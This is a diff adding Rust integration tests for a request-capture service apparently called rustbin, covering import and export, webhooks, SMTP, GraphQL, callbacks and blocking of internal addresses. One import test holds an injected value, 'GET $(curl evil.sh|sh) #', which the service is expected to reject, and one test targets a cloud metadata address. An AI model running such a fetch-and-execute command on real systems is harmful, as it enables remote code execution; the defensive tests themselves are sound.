+    assert_eq!(request["body"]["options"]["raw"]["language"], "json");
+    assert!(request["header"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .any(|h| h["key"] == "x-signature" && h["value"] == "abc"));
+}
+
+#[tokio::test]
+async fn test_export_as_ndjson_and_csv() {
+    let server = setup_test_app().await;
+
+    let bin_response: BinResponse = server.post("/create").await.json();
+    let bin_id = bin_response.bin_id;
+
+    server.post(&format!("/bin/{}", bin_id)).text("plain, with \"quotes\"").await.assert_status_ok();
+    server.put(&format!("/bin/{}/items?x=1", bin_id)).json(&serde_json::json!({ "a": 1 })).await.assert_status_ok();
+
+    let response = server.get(&format!("/bin/{}/export?format=ndjson", bin_id)).await;
+    response.assert_status_ok();
+    assert_eq!(response.header("content-type"), "application/x-ndjson");
+    let lines: Vec<LoggedRequest> = response
+        .text()
+        .lines()
+        .map(|line| serde_json::from_str(line).unwrap())
+        .collect();
+    assert_eq!(lines.len(), 2);
+    assert_eq!(lines[0].method, "POST");
+    assert_eq!(lines[1].path.as_deref(), Some("/items"));
+
+    let response = server.get(&format!("/bin/{}/export?format=csv", bin_id)).await;
+    response.assert_status_ok();
+    let csv = response.text();
+    let rows: Vec<&str> = csv.split("\r\n").filter(|row| !row.is_empty()).collect();
+    assert_eq!(rows.len(), 3);
+    assert!(rows[0].starts_with("request_id,timestamp,method,path"));
+    assert!(rows[1].ends_with(r#","plain, with ""quotes""""#));
+    assert!(rows[2].contains(",PUT,/items,x=1,"));
+}
+
+#[tokio::test]
+async fn test_import_round_trips_ndjson_export() {
+    let server = setup_test_app().await;
+
+    let source: BinResponse = server.post("/create").await.json();
+    let target: BinResponse = server.post("/create").await.json();
+
+    server
+        .post(&format!("/bin/{}/hooks?x=1", source.bin_id))
+        .json(&serde_json::json!({ "order_id": 7 }))
+        .await
+        .assert_status_ok();
+    server
+        .put(&format!("/bin/{}", source.bin_id))
+        .bytes(vec![0u8, 159, 146, 150].into())
+        .await
+        .assert_status_ok();
+
+    let export = server.get(&format!("/bin/{}/export?format=ndjson", source.bin_id)).await.text();
+    let response = server
+        .post(&format!("/bin/{}/import", target.bin_id))
+        .text(export)
+        .await;
+    response.assert_status_ok();
+    let result: Value = response.json();
+    assert_eq!(result["imported"], 2);
+
+    let original: Vec<LoggedRequest> = server.get(&format!("/bin/{}/inspect", source.bin_id)).await.json();
+    let imported: Vec<LoggedRequest> = server.get(&format!("/bin/{}/inspect", target.bin_id)).await.json();
+    assert_eq!(imported.len(), 2);
+    for (original, imported) in original.iter().zip(&imported) {
+        assert_ne!(original.request_id, imported.request_id);
+        assert_eq!(original.method, imported.method);
+        assert_eq!(original.headers, imported.headers);
+        assert_eq!(original.body, imported.body);
+        assert_eq!(original.body_encoding, imported.body_encoding);
+        assert_eq!(original.path, imported.path);
+        assert_eq!(original.query_params, imported.query_params);
+        assert_eq!(original.timestamp, imported.timestamp);
+    }
+
+    // HAR files work too, and broken input stores nothing
+    let har = serde_json::json!({ "log": { "entries": [{
+        "startedDateTime": "2024-05-01T10:00:00Z",
+        "request": { "method": "GET", "url": "https://example.com/status?verbose=1", "headers": [] }
+    }]}});
+    server.post(&format!("/bin/{}/import", target.bin_id)).json(&har).await.assert_status_ok();
+    server
+        .post(&format!("/bin/{}/import", target.bin_id))
+        .text("{\"method\":\"GET\"}\n{broken")
+        .await
+        .assert_status(StatusCode::BAD_REQUEST);
+    let response = server
+        .post(&format!("/bin/{}/import", target.bin_id))
+        .text("{\"method\":\"GET\"}\n{\"method\":\"GET $(curl evil.sh|sh) #\"}")
+        .await;
+    response.assert_status(StatusCode::BAD_REQUEST);
+    assert!(response.text().contains("Line 2: invalid method"));
+    let imported: Vec<LoggedRequest> = server.get(&format!("/bin/{}/inspect", target.bin_id)).await.json();
+    assert_eq!(imported.len(), 3);
+    assert_eq!(imported[2].path.as_deref(), Some("/status"));
+}
+
+#[tokio::test]
+async fn test_simulated_deliveries_are_captured_like_real_ones() {
+    let server = setup_test_app().await;
+    let bin_id = server.post("/create").await.json::<BinResponse>().bin_id;
+    server
+        .put(&format!("/bin/{}/signature", bin_id))
+        .json(&serde_json::json!({ "provider": "github", "secret": "shared" }))
+        .await
+        .assert_status_ok();
+
+    let response = server.post(&format!("/bin/{}/simulate?provider=github.push", bin_id)).await;
+    response.assert_status_ok();
+    let captured: Value = response.json();
+    server.post(&format!("/bin/{}/simulate", bin_id)).await.assert_status_ok();
+    server
+        .post(&format!("/bin/{}/simulate?provider=gitlab.push", bin_id))
+        .await
+        .assert_status(StatusCode::BAD_REQUEST);
+
+    let requests: Vec<LoggedRequest> = server.get(&format!("/bin/{}/inspect", bin_id)).await.json();
+    assert_eq!(requests.len(), 2);
+    let push = requests.iter().find(|request| request.request_id.to_string() == captured["request_id"]).unwrap();
+    assert_eq!(push.method, "POST");
+    assert!(push.headers.contains(r#"["x-github-event","push"]"#));
+    assert!(push.headers.contains(r#"["x-rustbin-simulated","github.push"]"#));
+    assert_eq!(push.signature_valid, Some(true));
+    let body: Value = serde_json::from_str(push.body.as_deref().unwrap()).unwrap();
+    assert_eq!(body["ref"], "refs/heads/main");
+}
+
+#[tokio::test]
+async fn test_inspect_follows_the_accept_header() {
+    let server = setup_test_app().await;
+    let bin_id = server.post("/create").await.json::<BinResponse>().bin_id;
+    server.post(&format!("/bin/{}", bin_id)).text("<b>hello</b>").await.assert_status_ok();
+    let inspect = format!("/bin/{}/inspect", bin_id);
+
+    let response = server.get(&inspect).await;
+    assert!(response.header("content-type").to_str().unwrap().starts_with("application/json"));
+    assert_eq!(response.header("vary").to_str().unwrap(), "accept");
+    assert_eq!(response.json::<Vec<LoggedRequest>>().len(), 1);
+
+    let response = server
+        .get(&inspect)
+        .add_header("accept", "text/html,application/xhtml+xml,*/*;q=0.8")
+        .await;
+    assert_eq!(response.header("content-type"), "text/html; charset=utf-8");
+    let page = response.text();
+    assert!(page.contains("<table>"));
+    assert!(page.contains("&lt;b&gt;hello&lt;/b&gt;"));
+
+    let response = server.get(&inspect).add_header("accept", "text/csv").await;
+    assert_eq!(response.header("content-type"), "text/csv; charset=utf-8");
+    assert_eq!(response.header("x-total-count"), "1");
+    let csv = response.text();
+    assert!(csv.starts_with("request_id,"));
+    assert_eq!(csv.lines().count(), 2);
+}
+
+#[tokio::test]
+async fn test_bin_feed_lists_the_newest_requests() {
+    let server = setup_test_app().await;
+    let bin_id = server.post("/create").await.json::<BinResponse>().bin_id;
+    for i in 0..3 {
+        server.post(&format!("/bin/{}/hook/{}", bin_id, i)).text("a<b").await.assert_status_ok();
+    }
+
+    let response = server.get(&format!("/bin/{}/feed.atom?limit=2", bin_id)).add_header("host", "bins.example.com").await;
+    response.assert_status_ok();
+    assert_eq!(response.header("content-type"), "application/atom+xml; charset=utf-8");
+    let feed = response.text();
+    assert!(feed.contains(&format!("href=\"http://bins.example.com/bin/{}/feed.atom\"", bin_id)));
+    assert_eq!(feed.matches("<entry>").count(), 2);
+    assert!(feed.find("POST /hook/2").unwrap() < feed.find("POST /hook/1").unwrap());
+    assert!(!feed.contains("/hook/0"));
+    assert!(feed.contains("a&lt;b"));
+
+    let etag = response.header("etag");
+    server
+        .get(&format!("/bin/{}/feed.atom", bin_id))
+        .add_header("if-none-match", etag.to_str().unwrap())
+        .await
+        .assert_status(StatusCode::NOT_MODIFIED);
+    server.get(&format!("/bin/{}/feed.atom", Uuid::new_v4())).await.assert_status(StatusCode::NOT_FOUND);
+}
+
+#[tokio::test]
+async fn test_openapi_document() {
+    let server = setup_test_app().await;
+
+    let response = server.get("/openapi.json").await;
+    response.assert_status_ok();
+    let doc: Value = response.json();
+    assert!(doc["openapi"].as_str().unwrap().starts_with("3."));
+
+    let paths = doc["paths"].as_object().unwrap();
+    for path in ["/create", "/bin/{id}", "/bin/{id}/inspect", "/bin/{id}/export", "/admin/bins/{id}", "/ping"] {
+        assert!(paths.contains_key(path), "missing {}", path);
+    }
+    let inspect_params: Vec<&str> = doc["paths"]["/bin/{id}/inspect"]["get"]["parameters"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|p| p["name"].as_str().unwrap())
+        .collect();
+    assert!(inspect_params.contains(&"limit"));
+    assert!(inspect_params.contains(&"after_id"));
+
+    let schemas = doc["components"]["schemas"].as_object().unwrap();
+    assert!(schemas["LoggedRequest"]["properties"]["request_id"].is_object());
+    assert!(doc["components"]["securitySchemes"]["bin_token"].is_object());
+}
+
+#[tokio::test]
+async fn test_admin_api_disabled_without_token() {
+    let server = setup_test_app().await;
+    server
+        .get("/admin/search?q=anything")
+        .add_header("authorization", "Bearer whatever")
+        .await
+        .assert_status(StatusCode::FORBIDDEN);
+}
+
+#[tokio::test]
+async fn test_wildcard_path_capture() {
+    let server = setup_test_app().await;
+
+    let response = server.post("/create").await;
+    let bin_response: BinResponse = response.json();
+    let bin_id = bin_response.bin_id;
+
+    server.post(&format!("/bin/{}", bin_id)).text("root").await.assert_status_ok();
+    server
+        .put(&format!("/bin/{}/any/sub/path?x=1", bin_id))
+        .text("nested")
+        .await
+        .assert_status_ok();
+
+    // Reserved sub-paths keep working
+    let response = server.get(&format!("/bin/{}/inspect", bin_id)).await;
+    response.assert_status_ok();
+    let requests: Vec<LoggedRequest> = response.json();
+    assert_eq!(requests.len(), 2);
+    assert_eq!(requests[0].path.as_deref(), Some("/"));
+    assert_eq!(requests[1].path.as_deref(), Some("/any/sub/path"));
+    assert_eq!(requests[1].method, "PUT");
+    assert_eq!(requests[1].query_string.as_deref(), Some("x=1"));
+
+    // Query parameters are served as an object, like on the WebSocket
+    let requests: Value = server.get(&format!("/bin/{}/inspect", bin_id)).await.json();
+    assert_eq!(requests[1]["query_params"], serde_json::json!({ "x": "1" }));
+    assert!(requests[0]["query_params"].is_null());
+}
+
+#[tokio::test]
+async fn test_repeated_headers_are_preserved() {
+    let server = setup_test_app().await;
+
+    let response = server.post("/create").await;
+    let bin_response: BinResponse = response.json();
+    let bin_id = bin_response.bin_id;
+
+    server
+        .post(&format!("/bin/{}", bin_id))
+        .add_header("x-forwarded-for", "10.0.0.1")
+        .add_header("x-forwarded-for", "10.0.0.2")
+        .text("hello")
+        .await
+        .assert_status_ok();
+
+    let response = server.get(&format!("/bin/{}/inspect", bin_id)).await;
+    let requests: Vec<LoggedRequest> = response.json();
+    let headers: Vec<(String, String)> = serde_json::from_str(&requests[0].headers).unwrap();
+    let forwarded: Vec<&str> = headers
+        .iter()
+        .filter(|(k, _)| k == "x-forwarded-for")
+        .map(|(_, v)| v.as_str())
+        .collect();
+    assert_eq!(forwarded, vec!["10.0.0.1", "10.0.0.2"]);
+}
+
+#[tokio::test]
+async fn test_smtp_capture() {
+    use tokio::io::{AsyncBufReadExt, AsyncWriteExt, BufReader};
+
+    let config = RustbinConfig::default();
+    let state = AppState::with_storage(Arc::new(MemoryStorage::new()), &config);
+    let server = test_server(state.clone());
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let address = listener.local_addr().unwrap();
+    tokio::spawn(rustbin::smtp::serve(listener, state, config.smtp.clone()));
+    let bin_id = server.post("/create").await.json::<BinResponse>().bin_id;
+
+    let stream = tokio::net::TcpStream::connect(address).await.unwrap();
+    let (reader, mut writer) = stream.into_split();
+    let mut reader = BufReader::new(reader);
+    let mut exchange = async |command: &str| {
+        if !command.is_empty() {
+            writer.write_all(format!("{}\r\n", command).as_bytes()).await.unwrap();
+        }
+        // The last line of a multi-line reply has a space after the code
+        loop {
+            let mut line = String::new();
+            reader.read_line(&mut line).await.unwrap();
+            if line.as_bytes().get(3) != Some(&b'-') {
+                return line[..3].to_string();
+            }
+        }
+    };
+    assert_eq!(exchange("").await, "220");
+    assert_eq!(exchange("EHLO client.test").await, "250");
+    assert_eq!(exchange("RCPT TO:<x@localhost>").await, "503");
+    assert_eq!(exchange("MAIL FROM:<app@example.com> SIZE=99999999").await, "552");
+    assert_eq!(exchange("MAIL FROM:<app@example.com>").await, "250");
+    assert_eq!(exchange(&format!("RCPT TO:<{}@elsewhere.test>", bin_id)).await, "550");
+    assert_eq!(exchange(&format!("RCPT TO:<{}@localhost>", Uuid::new_v4())).await, "550");
+    assert_eq!(exchange("RCPT TO:<not-a-bin@localhost>").await, "550");
+    assert_eq!(exchange(&format!("RCPT TO:<{}@LOCALHOST>", bin_id)).await, "250");
+    assert_eq!(exchange("DATA").await, "354");
+    let message = "From: App <app@example.com>\r\nSubject: Welcome\r\n\
+                   Content-Type: text/plain; charset=utf-8\r\n\r\nHello\r\n..and bye\r\n.";
+    assert_eq!(exchange(message).await, "250");
+    assert_eq!(exchange("QUIT").await, "221");
+
+    let requests: Vec<LoggedRequest> = server.get(&format!("/bin/{}/inspect", bin_id)).await.json();
+    assert_eq!(requests.len(), 1);
+    assert_eq!(requests[0].method, "SMTP");
+    let headers: Vec<(String, String)> = serde_json::from_str(&requests[0].headers).unwrap();
+    assert!(headers.contains(&("Subject".to_string(), "Welcome".to_string())), "{:?}", headers);
+    let body: Value = serde_json::from_str(requests[0].body.as_deref().unwrap()).unwrap();
+    assert_eq!(body["from"], "app@example.com");
+    assert_eq!(body["to"], serde_json::json!([format!("{}@LOCALHOST", bin_id)]));
+    assert_eq!(body["text"], "Hello\r\n.and bye\r\n");
+    assert_eq!(body["attachments"], serde_json::json!([]));
+}
+
+#[tokio::test]
+async fn test_graphql_queries() {
+    let server = setup_test_app().await;
+    let bin_id = server.post("/create").await.json::<BinResponse>().bin_id;
+    server.post(&format!("/bin/{}/hooks", bin_id)).add_header("x-event", "push").text("first").await.assert_status_ok();
+    server.get(&format!("/bin/{}", bin_id)).await.assert_status_ok();
+    server.post(&format!("/bin/{}", bin_id)).text("second").await.assert_status_ok();
+
+    let query = r#"query($id: ID!) {
+        bin(id: $id) {
+            id
+            private
+            posts: requests(method: "post") { total nodes { method path body header(name: "X-Event") } }
+            tagged: requests(header: "x-event: push") { total }
+            page: requests(limit: 1, offset: 1) { total nodes { method } }
+        }
+    }"#;
+    let response: Value = server
+        .post("/graphql")
+        .json(&serde_json::json!({ "query": query, "variables": { "id": bin_id } }))
+        .await
+        .json();
+    assert!(response.get("errors").is_none(), "{}", response);
+    let bin = &response["data"]["bin"];
+    assert_eq!(bin["id"], bin_id);
+    assert_eq!(bin["private"], false);
+    assert_eq!(bin["posts"]["total"], 2);
+    assert_eq!(bin["posts"]["nodes"][0], serde_json::json!({ "method": "POST", "path": "/hooks", "body": "first", "header": "push" }));
+    assert_eq!(bin["posts"]["nodes"][1]["header"], Value::Null);
+    assert_eq!(bin["tagged"]["total"], 1);
+    assert_eq!(bin["page"], serde_json::json!({ "total": 3, "nodes": [{ "method": "GET" }] }));
+
+    // Unknown bins are null, bad filters are errors
+    let missing: Value = server
+        .post("/graphql")
+        .json(&serde_json::json!({ "query": format!(r#"{{ bin(id: "{}") {{ id }} }}"#, Uuid::new_v4()) }))
+        .await
+        .json();
+    assert_eq!(missing, serde_json::json!({ "data": { "bin": null } }));
+    let invalid: Value = server
+        .post("/graphql")
+        .json(&serde_json::json!({ "query": format!(r#"{{ bin(id: "{}") {{ requests(since: "yesterday") {{ total }} }} }}"#, bin_id) }))
+        .await
+        .json();
+    assert!(invalid["errors"][0]["message"].as_str().unwrap().contains("since"), "{}", invalid);
+
+    // Private bins need their token, like over REST
+    let private: BinResponse = server.post("/create").json(&serde_json::json!({ "private": true })).await.json();
+    let query = serde_json::json!({ "query": format!(r#"{{ bin(id: "{}") {{ private }} }}"#, private.bin_id) });
+    let denied: Value = server.post("/graphql").json(&query).await.json();
+    assert_eq!(denied["errors"][0]["message"], "Invalid or missing bin token");
+    let token = private.token.unwrap();
+    let allowed: Value = server.post("/graphql").authorization_bearer(&token).json(&query).await.json();
+    assert_eq!(allowed["data"]["bin"]["private"], true);
+}
+
+/// A local chat webhook handing every JSON message it receives to the test
+async fn spawn_chat_webhook() -> (SocketAddr, tokio::sync::mpsc::UnboundedReceiver<Value>) {
+    let (sender, receiver) = tokio::sync::mpsc::unbounded_channel();
+    let handler = move |axum::Json(message): axum::Json<Value>| {
+        let sender = sender.clone();
+        async move {
+            let _ = sender.send(message);
+            StatusCode::NO_CONTENT
+        }
+    };
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let addr = listener.local_addr().unwrap();
+    tokio::spawn(async move {
+        axum::serve(listener, axum::Router::new().fallback(handler)).await.unwrap();
+    });
+    (addr, receiver)
+}
+
+#[tokio::test]
+async fn test_chat_notifications() {
+    let (webhook, mut messages) = spawn_chat_webhook().await;
+    let mut config = loopback_targets();
+    config.notifications.public_url = Some("https://rustb.in/".to_string());
+    for (server, linked) in [(setup_test_app_with_config(config).await, true), (setup_memory_app_with_config(loopback_targets()).await, false)] {
+        let bin_id = server.post("/create").await.json::<BinResponse>().bin_id;
+        let path = format!("/bin/{}/notifications", bin_id);
+        server.get(&path).await.assert_status_not_found();
+        server
+            .put(&path)
+            .json(&serde_json::json!({ "service": "discord", "webhook_url": "ftp://example.com" }))
+            .await
+            .assert_status(StatusCode::BAD_REQUEST);
+
+        let notifications = serde_json::json!({
+            "service": "discord",
+            "webhook_url": format!("http://{}/api/webhooks/1/abc", webhook),
+            "methods": ["post"],
+            "failed_signatures_only": false,
+        });
+        let stored: Value = server.put(&path).json(&notifications).await.json();
+        assert_eq!(stored["methods"], serde_json::json!(["POST"]));
+        assert_eq!(server.get(&path).await.json::<Value>(), stored);
+
+        // Filtered out, then posted
+        server.get(&format!("/bin/{}", bin_id)).await.assert_status_ok();
+        server.post(&format!("/bin/{}/orders", bin_id)).text("order 1").await.assert_status_ok();
+        let message = tokio::time::timeout(std::time::Duration::from_secs(5), messages.recv()).await.unwrap().unwrap();
+        let content = message["content"].as_str().unwrap();
+        assert!(content.starts_with(&format!("**POST /orders** captured in bin `{}`", bin_id)), "{}", content);
+        assert!(content.contains("order 1"), "{}", content);
+        // Linked only when the public address is configured
+        let link = format!("[Inspect the bin](https://rustb.in/bin/{}/inspect)", bin_id);
+        assert_eq!(content.ends_with(&link), linked, "{}", content);
+        assert!(messages.try_recv().is_err());
+
+        server.delete(&path).await.assert_status_ok();
+        server.get(&path).await.assert_status_not_found();
+    }
+
+    let mut config = RustbinConfig::default();
+    config.notifications.enabled = false;
+    let server = setup_test_app_with_config(config).await;
+    let bin_id = server.post("/create").await.json::<BinResponse>().bin_id;
+    server
+        .put(&format!("/bin/{}/notifications", bin_id))
+        .json(&serde_json::json!({ "service": "slack", "webhook_url": format!("http://{}/", webhook) }))
+        .await
+        .assert_status(StatusCode::FORBIDDEN);
+}
+
+/// Records the headers and body of every POST it receives
+async fn spawn_callback_receiver() -> (SocketAddr, tokio::sync::mpsc::UnboundedReceiver<(axum::http::HeaderMap, String)>) {
+    let (sender, receiver) = tokio::sync::mpsc::unbounded_channel();
+    let handler = move |headers: axum::http::HeaderMap, body: String| {
+        let sender = sender.clone();
+        async move {
+            let _ = sender.send((headers, body));
+            StatusCode::OK
+        }
+    };
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let addr = listener.local_addr().unwrap();
+    tokio::spawn(async move {
+        axum::serve(listener, axum::Router::new().fallback(handler)).await.unwrap();
+    });
+    (addr, receiver)
+}
+
+#[tokio::test]
+async fn test_bin_callbacks() {
+    let (receiver, mut events) = spawn_callback_receiver().await;
+    let server = setup_test_app_with_config(loopback_targets()).await;
+    let bin_id = server.post("/create").await.json::<BinResponse>().bin_id;
+    let path = format!("/bin/{}/callbacks", bin_id);
+    let url = format!("http://{}/hook", receiver);
+
+    server.post(&path).json(&serde_json::json!({ "url": "ftp://example.com" })).await.assert_status(StatusCode::BAD_REQUEST);
+    server
+        .post(&path)
+        .json(&serde_json::json!({ "url": url, "events": ["bin.created"] }))
+        .await
+        .assert_status(StatusCode::BAD_REQUEST);
+
+    let created = server.post(&path).json(&serde_json::json!({ "url": url, "secret": "s3cret" })).await;
+    created.assert_status(StatusCode::CREATED);
+    assert_eq!(created.json::<Value>()["secret"], "s3cret");
+    let deletions: Value = server.post(&path).json(&serde_json::json!({ "url": url, "events": ["bin.deleted"] })).await.json();
+    assert_eq!(deletions["secret"].as_str().unwrap().len(), 64);
+
+    // Secrets are not listed
+    let listed: Vec<Value> = server.get(&path).await.json();
+    assert_eq!(listed.len(), 2);
+    assert!(listed.iter().all(|callback| callback.get("secret").is_none()));
+
+    let mut next_event = async || tokio::time::timeout(std::time::Duration::from_secs(5), events.recv()).await.unwrap().unwrap();
+    server.post(&format!("/bin/{}/orders", bin_id)).text("order 1").await.assert_status_ok();
+    let (headers, body) = next_event().await;
+    let timestamp: i64 = headers["x-rustbin-timestamp"].to_str().unwrap().parse().unwrap();
+    let signature = format!("sha256={}", rustbin::webhooks::sign_payload("s3cret", timestamp, &body));
+    assert_eq!(headers["x-rustbin-signature"], signature.as_str());
+    assert_eq!(headers["x-rustbin-event"], "request.captured");
+    let payload: Value = serde_json::from_str(&body).unwrap();
+    assert_eq!(payload["bin_id"], bin_id.as_str());
+    assert_eq!(payload["data"]["path"], "/orders");
+    assert_eq!(payload["data"]["body"], "order 1");
+
+    // Both callbacks hear about the deletion, even though they are deleted with the bin
+    server.delete(&format!("/delete/{}", bin_id)).await.assert_status_ok();
+    for _ in 0..2 {
+        let (headers, body) = next_event().await;
+        assert_eq!(headers["x-rustbin-event"], "bin.deleted");
+        assert_eq!(serde_json::from_str::<Value>(&body).unwrap()["data"]["expired"], false);
+    }
+    assert!(events.try_recv().is_err());
+
+    let bin_id = server.post("/create").await.json::<BinResponse>().bin_id;
+    let callback: Value = server.post(&format!("/bin/{}/callbacks", bin_id)).json(&serde_json::json!({ "url": url })).await.json();
+    let callback_path = format!("/bin/{}/callbacks/{}", bin_id, callback["callback_id"].as_str().unwrap());
+    server.delete(&callback_path).await.assert_status_ok();
+    server.delete(&callback_path).await.assert_status_not_found();
+}
+
+#[tokio::test]
+async fn test_outbound_targets_stay_off_internal_addresses() {
+    let (receiver, mut events) = spawn_callback_receiver().await;
+    let target = spawn_echo_target().await;
+    let state = AppState::with_storage(Arc::new(MemoryStorage::new()), &RustbinConfig::default());
+    let server = test_server(state.clone());
+    let bin_id = server.post("/create").await.json::<BinResponse>().bin_id;
+    let bin_path = format!("/bin/{}", bin_id);
+
+    // Internal addresses are refused when they are set...
+    let refused = [
+        server.put(&format!("{}/proxy", bin_path)).json(&serde_json::json!({ "upstream": format!("http://{}", target) })).await,
+        server.post(&format!("{}/forwards", bin_path)).json(&serde_json::json!({ "url": "http://169.254.169.254/latest/meta-data" })).await,
+        server.post(&format!("{}/callbacks", bin_path)).json(&serde_json::json!({ "url": "http://localhost:8080/hook" })).await,
+        server.put(&format!("{}/notifications", bin_path)).json(&serde_json::json!({ "service": "slack", "webhook_url": "http://[::1]/hook" })).await,
+    ];
+    for response in refused {
+        response.assert_status(StatusCode::BAD_REQUEST);
+        assert_eq!(response.json::<Value>()["code"], "target_not_allowed");
+    }
+    let public: Forward = server.post(&format!("{}/forwards", bin_path)).json(&serde_json::json!({ "url": "https://93.184.216.34/relay" })).await.json();
+    let forward_path = format!("{}/forwards/{}", bin_path, public.forward_id);
+    let response = server.patch(&forward_path).json(&serde_json::json!({ "url": "http://10.0.0.1/relay" })).await;
+    response.assert_status(StatusCode::BAD_REQUEST);
+    assert_eq!(response.json::<Value>()["code"], "target_not_allowed");
+    server.delete(&forward_path).await.assert_status_ok();
+
+    // ...and again when sent, as the addresses behind a host name can change
+    let now = chrono::Utc::now().to_rfc3339();
+    let forward = Forward { forward_id: Uuid::new_v4().to_string(), url: format!("http://{}/relay", target), enabled: true, created_at: now.clone(), last_delivery: None };
+    state.storage.create_forward(&bin_id, &forward).await.unwrap();
+    let callback = Callback { callback_id: Uuid::new_v4().to_string(), url: format!("http://{}/hook", receiver), events: Vec::new(), secret: "s3cret".to_string(), created_at: now };
+    state.storage.create_callback(&bin_id, &callback).await.unwrap();
+    state.storage.set_bin_proxy(&bin_id, Some(&BinProxy { upstream: format!("http://{}", target) })).await.unwrap();
+
+    let response = server.post(&bin_path).text("proxied").await;
+    response.assert_status(StatusCode::BAD_GATEWAY);
+    assert!(response.json::<Value>()["detail"].as_str().unwrap().contains("internal address"));
+    let forwards = wait_for_deliveries(&server, &bin_id).await;
+    let delivery = forwards[0].last_delivery.as_ref().unwrap();
+    assert_eq!(delivery.status_code, None);
+    assert!(delivery.error.as_deref().unwrap().contains("internal address"));
+    assert!(tokio::time::timeout(std::time::Duration::from_millis(300), events.recv()).await.is_err());
+
+    // Sending elsewhere is a management task, needing an API key when keys are set
+    let mut config = loopback_targets();
+    config.auth.api_keys = vec!["key-1".to_string()];
+    let server = setup_test_app_with_config(config).await;
+    let bin_id = server.post("/create").add_header("x-api-key", "key-1").await.json::<BinResponse>().bin_id;
+    let upstream = serde_json::json!({ "upstream": format!("http://{}", target) });
+    let url = serde_json::json!({ "url": format!("http://{}/hook", receiver) });
+    let proxy_path = format!("/bin/{}/proxy", bin_id);
+    let forwards_path = format!("/bin/{}/forwards", bin_id);
+    let callbacks_path = format!("/bin/{}/callbacks", bin_id);
+    server.put(&proxy_path).json(&upstream).await.assert_status(StatusCode::UNAUTHORIZED);
+    server.post(&forwards_path).json(&url).await.assert_status(StatusCode::UNAUTHORIZED);
+    server.post(&callbacks_path).json(&url).await.assert_status(StatusCode::UNAUTHORIZED);
+    server.get(&forwards_path).await.assert_status(StatusCode::UNAUTHORIZED);
+    server.get(&callbacks_path).await.assert_status(StatusCode::UNAUTHORIZED);
+    server.put(&proxy_path).add_header("x-api-key", "key-1").json(&upstream).await.assert_status_ok();
+    let forward: Forward = server.post(&forwards_path).add_header("x-api-key", "key-1").json(&url).await.json();
+    let forward_path = format!("{}/{}", forwards_path, forward.forward_id);
+    server.delete(&forward_path).await.assert_status(StatusCode::UNAUTHORIZED);
+    server.delete(&forward_path).add_header("x-api-key", "key-1").await.assert_status_ok();
+    server.post(&callbacks_path).add_header("x-api-key", "key-1").json(&url).await.assert_status(StatusCode::CREATED);
+    server.delete(&proxy_path).await.assert_status(StatusCode::UNAUTHORIZED);
+    server.delete(&proxy_path).add_header("x-api-key", "key-1").await.assert_status_ok();
+}
+
+#[tokio::test]
+async fn test_request_diff() {
+    let server = setup_test_app().await;
+    let bin_id = server.post("/create").await.json::<BinResponse>().bin_id;
+    server
+        .post(&format!("/bin/{}/stripe", bin_id))
+        .add_header("x-attempt", "1")
+        .json(&serde_json::json!({ "data": { "id": "evt_1", "amount": 100 } }))
+        .await
+        .assert_status_ok();
+    server
+        .post(&format!("/bin/{}/stripe", bin_id))
+        .add_header("x-attempt", "2")
+        .json(&serde_json::json!({ "data": { "id": "evt_1", "amount": 250, "currency": "usd" } }))
+        .await
+        .assert_status_ok();
+    server.put(&format!("/bin/{}/stripe?retry=1", bin_id)).text("line 1\nline 2").await.assert_status_ok();
+    let requests: Vec<LoggedRequest> = server.get(&format!("/bin/{}/inspect", bin_id)).await.json();
+    let ids: Vec<String> = requests.iter().map(|request| request.request_id.to_string()).collect();
+
+    let diff: Value = server.get(&format!("/bin/{}/diff?from={}&to={}", bin_id, ids[0], ids[1])).await.json();
+    assert!(diff.get("method").is_none());
+    assert_eq!(diff["headers"], serde_json::json!([{ "name": "x-attempt", "change": "changed", "from": "1", "to": "2" }]));
+    assert_eq!(
+        diff["body"],
+        serde_json::json!({
+            "format": "json",
+            "changes": [
+                { "path": "$.data.amount", "change": "changed", "from": 100, "to": 250 },
+                { "path": "$.data.currency", "change": "added", "to": "usd" },
+            ]
+        })
+    );
+
+    let diff: Value = server.get(&format!("/bin/{}/diff?from={}&to={}", bin_id, ids[1], ids[2])).await.json();
+    assert_eq!(diff["method"], serde_json::json!({ "from": "POST", "to": "PUT" }));
+    assert_eq!(diff["query_string"], serde_json::json!({ "from": null, "to": "retry=1" }));
+    assert_eq!(diff["body"]["format"], "text");
+    assert_eq!(diff["body"]["changes"][1], serde_json::json!({ "change": "added", "line": 1, "text": "line 1" }));
+
+    server
+        .get(&format!("/bin/{}/diff?from={}&to={}", bin_id, ids[0], Uuid::new_v4()))
+        .await
+        .assert_status_not_found();
+    server
+        .get(&format!("/bin/{}/diff?from={}&to=nope", bin_id, ids[0]))
+        .await
+        .assert_status(StatusCode::BAD_REQUEST);
+}
+
+#[tokio::test]
+async fn test_field_extractors() {
+    for server in [setup_test_app().await, setup_memory_app().await] {
+        let bin_id = server.post("/create").await.json::<BinResponse>().bin_id;
+        let path = format!("/bin/{}/extractors", bin_id);
+        assert_eq!(server.get(&path).await.json::<Value>(), serde_json::json!([]));
+        server
+            .put(&path)
+            .json(&serde_json::json!([{ "name": "order_id", "path": "$..id" }]))
+            .await
+            .assert_status(StatusCode::BAD_REQUEST);
+
+        let extractors = serde_json::json!([
+            { "name": "order_id", "path": "$.data.object.id" },
+            { "name": "amount", "path": "$.data.object.amount" },
+        ]);
+        server.put(&path).json(&extractors).await.assert_status_ok();
+        assert_eq!(server.get(&path).await.json::<Value>(), extractors);
+
+        for (order_id, amount) in [("ord_1", 100), ("ord_2", 250)] {
+            server
+                .post(&format!("/bin/{}", bin_id))
+                .json(&serde_json::json!({ "data": { "object": { "id": order_id, "amount": amount } } }))
+                .await
+                .assert_status_ok();
+        }
+        server.post(&format!("/bin/{}", bin_id)).text("not json").await.assert_status_ok();
+
+        let requests: Vec<LoggedRequest> = server.get(&format!("/bin/{}/inspect", bin_id)).await.json();
+        assert_eq!(requests[1].fields.get("order_id").map(String::as_str), Some("ord_2"));
+        assert_eq!(requests[1].fields.get("amount").map(String::as_str), Some("250"));
+        assert!(requests[2].fields.is_empty());
+
+        let matching = server.get(&format!("/bin/{}/inspect?field=order_id&value=ord_1", bin_id)).await;
+        assert_eq!(matching.header("x-total-count"), "1");
